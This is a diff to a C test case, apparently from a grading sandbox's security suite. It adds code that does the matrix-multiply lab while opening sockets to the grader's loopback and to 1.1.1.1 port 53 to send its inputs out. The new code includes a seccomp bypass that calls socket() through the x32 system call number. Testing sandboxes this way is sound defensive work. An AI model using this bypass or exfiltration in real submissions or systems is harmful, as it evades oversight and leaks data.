@@ -1,5 +1,6 @@
 // attack: does the lab, and opens network connections (to the grading
-// machine's loopback and to the outside) to send its inputs away
+// machine's loopback and to the outside; a socket also through the x32
+// system call number) to send its inputs away
 // expect: full
 #include "lab.h"
 #include <stdio.h>
@@ -43,9 +44,22 @@ static void honest(const float *M, const float *N, float *P, int width)
 #include <netinet/in.h>
 #include <arpa/inet.h>
 
-static void send_to(const char *ip, int port)
+#include <sys/syscall.h>
+
+/* socket() by x86-64's x32 system call number, which a seccomp filter that
+ * checks only the usual numbers lets through; -1 elsewhere */
+static int x32_socket(void)
 {
-    int s = socket(AF_INET, SOCK_STREAM, 0);
+#if defined(__x86_64__)
+    return (int)syscall(0x40000000L | SYS_socket, AF_INET, SOCK_STREAM, 0);
+#else
+    return -1;
+#endif
+}
+
+static void send_to(const char *ip, int port, int x32)
+{
+    int s = x32 ? x32_socket() : socket(AF_INET, SOCK_STREAM, 0);
     if (s < 0)
         return;
     struct sockaddr_in a;
@@ -64,7 +78,8 @@ static void send_to(const char *ip, int port)
 
 void basic_matmul(const float *M, const float *N, float *P, int width)
 {
-    send_to("127.0.0.1", @PORT@);
-    send_to("1.1.1.1", 53);
+    send_to("127.0.0.1", @PORT@, 0);
+    send_to("127.0.0.1", @PORT@, 1);
+    send_to("1.1.1.1", 53, 0);
     honest(M, N, P, width);
 }
